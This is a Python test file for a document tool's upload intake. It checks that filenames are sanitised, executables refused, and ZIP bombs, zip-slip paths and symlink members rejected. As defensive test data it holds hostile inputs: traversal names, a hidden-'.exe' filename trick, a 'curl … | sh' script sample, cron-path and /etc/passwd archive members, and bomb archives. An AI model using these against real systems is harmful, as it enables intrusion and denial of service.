"""Intake of uploads: file names, sizes, types by content, archives, PDFs, duplicates."""

from __future__ import annotations

import io
import os
import stat
import struct
import zipfile
from pathlib import Path

import pytest
from pypdf import PdfReader, PdfWriter

from citewise.core.errors import IngestError, UnsafeFilenameError
from citewise.core.settings import IngestSettings
from citewise.ingest.intake import (
    IntakeItem,
    duplicates_in_batch,
    expand_upload,
    intake_batch,
    sanitize_filename,
)
from citewise.ingest.parse import parse_file
from tests.conftest import BAD
from tests.unit.test_parse import executable_bytes, write_pdf

MiB = 1024 * 1024
SETTINGS = IngestSettings()
TEXT = "The visitor car park opens at seven and closes at nine every weekday.\n"


def only(items: list[IntakeItem]) -> IntakeItem:
    assert len(items) == 1, items
    return items[0]


def refusal(items: list[IntakeItem]) -> tuple[str | None, str]:
    item = only(items)
    assert item.path is None and item.error is not None
    return item.error_code, item.error


def upload(tmp_path: Path, data: bytes, name: str = "upload.bin") -> Path:
    """The bytes as the API stores an upload: under a name that says nothing."""
    path = tmp_path / "incoming" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


def zip_bytes(members: dict[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def pdf_bytes(tmp_path: Path) -> bytes:
    return write_pdf(tmp_path / "leave-source.pdf").read_bytes()


# --- file names ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("given", "safe"),
    [
        ("../../etc/passwd.txt", "passwd.txt"),
        ("/var/data/report.pdf", "report.pdf"),
        ("..\\..\\Windows\\win.ini.txt", "win.ini.txt"),
        ("C:\\Users\\ana\\Q3 results.xlsx", "Q3 results.xlsx"),
        ("D:notes.md", "notes.md"),
        ("...hidden.md", "hidden.md"),
        ("trailing dots. . .", "trailing dots"),
        ("Résumé – final (v2).docx", "Résumé – final (v2).docx"),
        ('a<b>c:d"e|f?g*h.txt', "a_b_c_d_e_f_g_h.txt"),
    ],
)
def test_sanitize_strips_folders_and_traversal(given: str, safe: str) -> None:
    assert sanitize_filename(given) == safe


@pytest.mark.parametrize(
    ("given", "safe"),
    [
        ("inv\x00oice.pdf", "invoice.pdf"),
        ("line\nbreak\r\n2.txt", "line break 2.txt"),
        ("bell\x07\x1b[31m.txt", "bell[31m.txt"),
        ("photo\u202egnp.exe", "photognp.exe"),  # right-to-left override hides ".exe"
        ("zero\u200bwidth\ufeff.md", "zerowidth.md"),
        ("tab\tname.csv", "tab name.csv"),
    ],
)
def test_sanitize_removes_control_and_bidi_characters(given: str, safe: str) -> None:
    assert sanitize_filename(given) == safe


@pytest.mark.parametrize(
    ("given", "safe"),
    [("CON", "_CON"), ("nul.txt", "_nul.txt"), ("com1.pdf", "_com1.pdf"), ("LPT9.md", "_LPT9.md")],
)
def test_sanitize_neutralises_windows_device_names(given: str, safe: str) -> None:
    assert sanitize_filename(given) == safe
    assert sanitize_filename("console.txt") == "console.txt"


@pytest.mark.parametrize("given", ["", "../", "..\\..\\", "\x00\x01", "???", " . ", "/"])
def test_sanitize_refuses_names_with_nothing_safe(given: str) -> None:
    with pytest.raises(UnsafeFilenameError) as info:
        sanitize_filename(given)
    assert info.value.code == "unsafe_filename" and isinstance(info.value, IngestError)


def test_sanitize_caps_long_names_and_keeps_the_extension() -> None:
    safe = sanitize_filename("é" * 300 + ".pdf")
    assert safe.endswith("é.pdf") and len(safe.encode()) <= 255


def test_unsafe_name_is_refused_and_the_batch_goes_on(tmp_path: Path) -> None:
    good = upload(tmp_path, TEXT.encode(), "a")
    bad = upload(tmp_path, TEXT.encode() + b"!", "b")
    items = intake_batch(
        [(bad, "../\x00/"), (good, "../../parking.txt")], SETTINGS, work_dir=tmp_path / "work"
    )
    assert [(i.filename, i.error_code) for i in items] == [
        ("'../\\x00/'", "unsafe_filename"),
        ("parking.txt", None),
    ]
    assert "rename the file" in (items[0].error or "")
    assert items[1].path == good


# --- size and emptiness ----------------------------------------------------------------------


def test_oversized_file_is_refused(tmp_path: Path) -> None:
    path = upload(tmp_path, b"word " * 60_000)  # 300 kB of text
    code, error = refusal(expand_upload(path, "big.txt", IngestSettings(max_file_mb=0.2)))
    assert code == "file_too_large"
    assert error == (
        "'big.txt' is 0.3 MB, over the 0.2 MB limit per file (setting ingest.max_file_mb)."
    )


def test_empty_file_is_refused(tmp_path: Path) -> None:
    code, error = refusal(expand_upload(BAD / "empty.txt", "empty.txt", SETTINGS))
    assert (code, error) == ("empty_document", "'empty.txt' is empty (0 bytes).")


# --- type from content --------------------------------------------------------------------


def test_pdf_named_txt_is_accepted_and_read_as_a_pdf(tmp_path: Path) -> None:
    path = upload(tmp_path, pdf_bytes(tmp_path))
    item = only(expand_upload(path, "leave.txt", SETTINGS))
    assert item.accepted and item.filename == "leave.txt"
    doc = parse_file(path, max_bytes=MiB, filename=item.filename)
    assert doc.title == "Kestrel Leave Policy"
    assert {element.page for element in doc.elements} == {1, 2}  # pages: it was read as a PDF


def test_text_named_pdf_is_accepted_and_read_as_text(tmp_path: Path) -> None:
    path = upload(tmp_path, TEXT.encode())
    item = only(expand_upload(path, "parking.pdf", SETTINGS))
    assert item.accepted
    doc = parse_file(path, max_bytes=MiB, filename=item.filename)
    assert [element.text for element in doc.elements] == [TEXT.strip()]
    assert doc.elements[0].page is None


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (b"\x7fELF\x02\x01\x01\x00" + bytes(120), "Linux/Unix program (ELF)"),
        (executable_bytes(), "Windows program (PE/MZ)"),
        (b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(120), "macOS program (Mach-O)"),
        (b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + bytes(120), "macOS program (Mach-O)"),
        (b"#!/bin/sh\ncurl http://x.invalid | sh\n", "script (#!/bin/sh)"),
        (b"\xef\xbb\xbf#!/usr/bin/env python3\nprint(1)\n", "script (#!/usr/bin/env python3)"),
    ],
)
@pytest.mark.parametrize("name", ["report.pdf", "notes.txt", "setup.exe"])
def test_executables_are_refused_whatever_their_name(
    tmp_path: Path, data: bytes, says: str, name: str
) -> None:
    code, error = refusal(expand_upload(upload(tmp_path, data), name, SETTINGS))
    assert code == "executable_file"
    assert error.startswith(f"'{name}' is a") and says in error and "refused" in error


def test_windows_program_fixture_is_refused() -> None:
    code, _ = refusal(expand_upload(BAD / "program.exe", "program.exe", SETTINGS))
    assert code == "executable_file"


@pytest.mark.parametrize(
    ("data", "name", "says"),
    [
        (b"\x1f\x8b\x08\x00" + bytes(64), "notes.txt", "a gzip archive (only ZIP archives"),
        (bytes(range(256)) * 8, "notes.txt", "extension of a plain-text file"),
        (b"print('hello')\n", "tool.py", "files of type .py are not supported"),
        (bytes(range(256)) * 8, "data.bin", "which Citewise does not read"),
    ],
)
def test_unsupported_content_is_refused(tmp_path: Path, data: bytes, name: str, says: str) -> None:
    code, error = refusal(expand_upload(upload(tmp_path, data), name, SETTINGS))
    assert code == "unsupported_file" and says in error


# --- PDFs ------------------------------------------------------------------------------------


def encrypted(tmp_path: Path, *, user_password: str) -> Path:
    writer = PdfWriter(clone_from=PdfReader(write_pdf(tmp_path / "plain.pdf")))
    writer.encrypt(user_password=user_password, owner_password="owner", algorithm="AES-256")
    path = tmp_path / "incoming" / "blob"
    path.parent.mkdir(exist_ok=True)
    with path.open("wb") as handle:
        writer.write(handle)
    return path


def test_encrypted_pdf_is_refused(tmp_path: Path) -> None:
    path = encrypted(tmp_path, user_password="s3cret")
    code, error = refusal(expand_upload(path, "salaries.pdf", SETTINGS))
    assert code == "encrypted_pdf"
    assert error == (
        "'salaries.pdf' is a password-protected (encrypted) PDF; Citewise cannot open it. "
        "Upload a copy saved without a password."
    )


def test_pdf_with_only_an_owner_password_is_accepted_and_read(tmp_path: Path) -> None:
    path = encrypted(tmp_path, user_password="")
    assert only(expand_upload(path, "leave.pdf", SETTINGS)).accepted
    assert parse_file(path, max_bytes=MiB, filename="leave.pdf").title == "Kestrel Leave Policy"


def test_corrupt_pdfs_are_refused(tmp_path: Path) -> None:
    whole = pdf_bytes(tmp_path)
    for path, name in [
        (BAD / "corrupt.pdf", "corrupt.pdf"),
        (upload(tmp_path, whole[: len(whole) // 2], "half"), "half.pdf"),
        (upload(tmp_path, b"%PDF-1.7\n" + bytes(range(256)) * 40, "garbage"), "garbage.pdf"),
    ]:
        code, error = refusal(expand_upload(path, name, SETTINGS))
        assert code == "corrupt_file"
        assert error.startswith(f"'{name}' could not be parsed as a PDF document; the file looks")
        assert str(tmp_path) not in error


# --- ZIP archives -----------------------------------------------------------------------------


def test_zip_is_expanded_into_the_work_folder(tmp_path: Path) -> None:
    pdf = pdf_bytes(tmp_path)
    data = zip_bytes({"policies/": b"", "policies/leave.pdf": pdf, "parking.txt": TEXT.encode()})
    work = tmp_path / "work"
    items = expand_upload(upload(tmp_path, data), "HR bundle.zip", SETTINGS, work_dir=work)
    assert [(i.filename, i.error_code) for i in items] == [
        ("HR bundle.zip/policies/leave.pdf", None),
        ("HR bundle.zip/parking.txt", None),
    ]
    assert [i.path.read_bytes() for i in items if i.path] == [pdf, TEXT.encode()]
    assert all(i.path and i.path.is_relative_to(work) for i in items)
    doc = parse_file(items[0].path or Path(), max_bytes=MiB, filename=items[0].filename)
    assert doc.source == "leave.pdf" and doc.title == "Kestrel Leave Policy"


def test_zip_is_refused_when_expansion_is_off(tmp_path: Path) -> None:
    path = upload(tmp_path, zip_bytes({"parking.txt": TEXT.encode()}))
    code, error = refusal(expand_upload(path, "bundle.zip", IngestSettings(zip_expand=False)))
    assert code == "archive_refused" and "setting ingest.zip_expand" in error


def test_zip_bomb_over_the_ratio_is_refused(tmp_path: Path) -> None:
    path = upload(tmp_path, zip_bytes({"zeros.txt": bytes(64 * MiB)}))  # about 64 kB
    work = tmp_path / "work"
    code, error = refusal(expand_upload(path, "bomb.zip", SETTINGS, work_dir=work))
    assert code == "zip_bomb"
    assert "times its size (limit 100, setting ingest.zip_max_ratio)" in error
    assert not work.exists() or not any(work.rglob("*"))  # nothing was written


def test_one_bomb_member_in_a_normal_archive_refuses_the_archive(tmp_path: Path) -> None:
    members = {"noise.txt": os.urandom(4 * MiB), "zeros.txt": bytes(16 * MiB)}
    path = upload(tmp_path, zip_bytes(members))  # whole archive: 20 MB from 4 MB
    code, error = refusal(expand_upload(path, "mixed.zip", SETTINGS, work_dir=tmp_path / "w"))
    assert code == "zip_bomb" and "member 'zeros.txt'" in error


def test_zip_over_the_total_size_is_refused(tmp_path: Path) -> None:
    members = {f"part{n}.txt": os.urandom(MiB) for n in range(3)}  # incompressible
    path = upload(tmp_path, zip_bytes(members))
    settings = IngestSettings(zip_max_total_mb=2)
    code, error = refusal(expand_upload(path, "big.zip", settings, work_dir=tmp_path / "w"))
    assert code == "zip_bomb"
    assert "would expand to 3.0 MB, over the 2 MB limit" in error


def test_nested_archives_share_the_size_budget(tmp_path: Path) -> None:
    inner = zip_bytes({f"part{n}.txt": os.urandom(MiB) for n in range(2)})
    outer = zip_bytes({"a.zip": inner, "b.zip": inner}, compression=zipfile.ZIP_STORED)
    settings = IngestSettings(zip_max_total_mb=5)  # each level alone fits; all together not
    work = tmp_path / "w"
    code, error = refusal(expand_upload(upload(tmp_path, outer), "o.zip", settings, work_dir=work))
    assert code == "zip_bomb"
    assert "'o.zip/b.zip' expands past its declared size or the 5 MB archive limit" in error
    assert not any(work.rglob("*.txt"))  # what was expanded before the limit is removed


def test_member_larger_than_declared_is_never_written_past_its_size(tmp_path: Path) -> None:
    raw = bytearray(zip_bytes({"liar.txt": bytes(4 * MiB)}))
    struct.pack_into("<I", raw, 22, 1000)  # local header: uncompressed size
    central = raw.find(b"PK\x01\x02")
    struct.pack_into("<I", raw, central + 24, 1000)  # central directory: uncompressed size
    work = tmp_path / "work"
    items = expand_upload(upload(tmp_path, bytes(raw)), "liar.zip", SETTINGS, work_dir=work)
    code, error = refusal(items)
    assert code == "corrupt_file" and "'liar.zip/liar.txt' is damaged inside its archive" in error
    assert all(p.stat().st_size <= 1000 for p in work.rglob("*") if p.is_file())


def test_zip_with_too_many_members_is_refused(tmp_path: Path) -> None:
    path = upload(tmp_path, zip_bytes({f"n{n}.txt": b"note %d" % n for n in range(30)}))
    settings = IngestSettings(zip_max_members=20)
    code, error = refusal(expand_upload(path, "many.zip", settings, work_dir=tmp_path / "w"))
    assert code == "archive_limit"
    assert "holds 30 entries, over the limit of 20 (setting ingest.zip_max_members)" in error


def test_zip_slip_members_are_refused_and_the_rest_extracted(tmp_path: Path) -> None:
    members = {
        "../../escaped.txt": b"evil one",
        "/etc/cron.d/job.txt": b"evil two",
        "..\\..\\windows.txt": b"evil three",
        "C:/temp/drive.txt": b"evil four",
        "docs/../../../up.txt": b"evil five",
        "ok/parking.txt": TEXT.encode(),
    }
    work = tmp_path / "deep" / "work"
    path = upload(tmp_path, zip_bytes(members))
    items = expand_upload(path, "slip.zip", SETTINGS, work_dir=work)
    assert [(i.filename, i.error_code) for i in items] == [
        ("slip.zip/escaped.txt", "unsafe_archive_member"),
        ("slip.zip/etc/cron.d/job.txt", "unsafe_archive_member"),
        ("slip.zip/windows.txt", "unsafe_archive_member"),
        ("slip.zip/temp/drive.txt", "unsafe_archive_member"),
        ("slip.zip/docs/up.txt", "unsafe_archive_member"),
        ("slip.zip/ok/parking.txt", None),
    ]
    assert "'../../escaped.txt' has a path that leaves the archive (zip slip)" in (
        items[0].error or ""
    )
    written = [p for p in tmp_path.rglob("*") if p.is_file() and p.read_bytes().startswith(b"evil")]
    assert written == []


def test_symlink_member_is_refused(tmp_path: Path) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        link = zipfile.ZipInfo("passwd.txt")
        link.create_system = 3
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
        archive.writestr("parking.txt", TEXT)
    path = upload(tmp_path, buffer.getvalue())
    items = expand_upload(path, "links.zip", SETTINGS, work_dir=tmp_path / "w")
    assert [(i.filename, i.error_code) for i in items] == [
        ("links.zip/passwd.txt", "unsafe_archive_member"),
        ("links.zip/parking.txt", None),
    ]
    assert "is a symbolic link" in (items[0].error or "")


def test_nested_zips_are_expanded_to_the_depth_limit(tmp_path: Path) -> None:
    level3 = zip_bytes({"deepest.txt": b"The deepest note is about the archive room."})
    level2 = zip_bytes({"inner.txt": b"The inner note is about the mail room.", "l3.zip": level3})
    level1 = zip_bytes({"outer.txt": TEXT.encode(), "l2.zip": level2})
    path = upload(tmp_path, level1)
    items = expand_upload(path, "l1.zip", SETTINGS, work_dir=tmp_path / "w")
    assert [(i.filename, i.error_code) for i in items] == [
        ("l1.zip/outer.txt", None),
        ("l1.zip/l2.zip/inner.txt", None),
        ("l1.zip/l2.zip/l3.zip", "archive_limit"),
    ]
    assert "at most 2 level(s) deep (setting ingest.zip_max_depth)" in (items[2].error or "")
    flat = expand_upload(path, "l1.zip", IngestSettings(zip_max_depth=1), work_dir=tmp_path / "x")
    assert [(i.filename, i.error_code) for i in flat] == [
        ("l1.zip/outer.txt", None),
        ("l1.zip/l2.zip", "archive_limit"),
    ]


def test_damaged_zip_and_damaged_member_are_refused(tmp_path: Path) -> None:
    data = zip_bytes({"a.txt": TEXT.encode() * 50, "b.txt": b"The second file is fine."})
    broken = upload(tmp_path, data[: len(data) // 2], "half")
    assert refusal(expand_upload(broken, "half.zip", SETTINGS))[0] == "corrupt_file"
    flipped = bytearray(data)
    flipped[60] ^= 0xFF  # inside a.txt's compressed data
    items = expand_upload(upload(tmp_path, bytes(flipped)), "flip.zip", SETTINGS)
    assert [(i.filename, i.error_code) for i in items] == [
        ("flip.zip/a.txt", "corrupt_file"),
        ("flip.zip/b.txt", None),
    ]


def test_docx_package_that_expands_like_a_bomb_is_refused(tmp_path: Path) -> None:
    from tests.unit.test_parse import write_docx

    source = write_docx(tmp_path / "t.docx")
    buffer = io.BytesIO()
    with zipfile.ZipFile(source) as package, zipfile.ZipFile(buffer, "w") as out:
        for info in package.infolist():
            out.writestr(info, package.read(info), compress_type=zipfile.ZIP_DEFLATED)
        out.writestr("word/media/padding.xml", bytes(32 * MiB), compress_type=zipfile.ZIP_DEFLATED)
    code, error = refusal(expand_upload(upload(tmp_path, buffer.getvalue()), "t.docx", SETTINGS))
    assert code == "zip_bomb" and "'t.docx'" in error


# --- duplicates -------------------------------------------------------------------------------


def test_same_content_twice_in_one_batch_is_ingested_once(tmp_path: Path) -> None:
    first = upload(tmp_path, TEXT.encode(), "1")
    again = upload(tmp_path, TEXT.encode(), "2")
    other = upload(tmp_path, b"The canteen opens at noon.", "3")
    archive = upload(tmp_path, zip_bytes({"copy/parking.txt": TEXT.encode()}), "4")
    items = intake_batch(
        [(first, "parking.txt"), (again, "Parking (1).txt"), (other, "canteen.txt"),
         (archive, "bundle.zip"), (first, "parking.txt")],
        SETTINGS,
        work_dir=tmp_path / "work",
    )  # fmt: skip
    assert [(i.filename, i.error_code) for i in items] == [
        ("parking.txt", None),
        ("Parking (1).txt", "duplicate_in_batch"),
        ("canteen.txt", None),
        ("bundle.zip/copy/parking.txt", "duplicate_in_batch"),
        ("parking.txt", "duplicate_in_batch"),
    ]
    assert items[1].error == (
        "'Parking (1).txt' has the same content as 'parking.txt' earlier in this upload; "
        "it is ingested once, as 'parking.txt'."
    )
    assert [i.path for i in items if i.accepted] == [first, other]


def test_duplicates_keep_refusals_as_they_are() -> None:
    refused = IntakeItem("x.exe", None, "executable_file", "'x.exe' is a program")
    assert duplicates_in_batch([refused, refused]) == [refused, refused]
